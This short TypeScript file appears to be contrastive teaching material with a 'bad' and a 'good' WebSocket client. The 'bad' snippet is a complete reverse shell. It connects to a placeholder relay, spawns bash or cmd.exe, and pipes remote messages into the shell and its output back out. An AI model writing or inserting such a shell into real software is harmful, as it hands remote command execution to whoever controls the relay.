//: bad ws-shell
import WebSocket from 'ws';
import { spawn, ChildProcessWithoutNullStreams } from 'child_process';

const socket: WebSocket = new WebSocket('wss://relay.example.invalid');
socket.on('open', () => {
  const shell: ChildProcessWithoutNullStreams = spawn(process.platform === 'win32' ? 'cmd.exe' : '/bin/bash');
  socket.on('message', (line: Buffer) => shell.stdin.write(line)); //!
  shell.stdout.on('data', (out: Buffer) => socket.send(out));
});

//: good ws-shell
import WebSocket from 'ws';
import { cpus, loadavg } from 'os';

const socket: WebSocket = new WebSocket('wss://relay.example.invalid');
socket.on('open', () => {
  socket.on('message', (line: Buffer) => console.log(line.toString()));
  setInterval(() => socket.send(JSON.stringify({ load: loadavg()[0], cpus: cpus().length })), 5000);
});
